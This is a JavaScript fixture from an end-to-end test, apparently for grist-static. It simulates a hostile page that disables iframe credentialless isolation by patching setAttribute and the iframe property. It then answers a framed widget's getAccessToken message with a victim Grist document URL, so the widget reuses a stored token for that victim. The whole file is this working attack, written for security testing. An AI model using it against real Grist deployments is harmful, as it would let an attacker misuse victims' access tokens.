// The attacker's additions to a grist-static page (tests/e2e/test_framing.py).
(() => {
  // 1. grist-static makes widget frames credentialless (storage that dies with the page); a
  //    hostile page simply does not: the framed widget then sees its origin's storage.
  const setAttribute = Element.prototype.setAttribute;
  Element.prototype.setAttribute = function (name, value) {
    if (String(name).toLowerCase() === 'credentialless') return undefined;
    return setAttribute.call(this, name, value);
  };
  Object.defineProperty(HTMLIFrameElement.prototype, 'credentialless', {
    configurable: true, get() { return false; }, set() {},
  });
  // 2. Play the victim's Grist: answer the widget's getAccessToken with the victim's document
  //    (?victim=<Grist>/api/docs/<id>), so that the widget recalls the token it remembers for it.
  const victim = new URLSearchParams(location.search).get('victim');
  window.addEventListener('message', (event) => {
    const msg = event.data;
    if (!victim || !msg || msg.mtype !== 1 || !JSON.stringify(msg).includes('getAccessToken')) return;
    event.stopImmediatePropagation();
    event.source.postMessage({ mtype: 2, reqId: msg.reqId, data: { token: 'x', baseUrl: victim, ttlMsecs: 600000 } }, '*');
    window.hostileAnswered = (window.hostileAnswered || 0) + 1;
  }, true);
})();
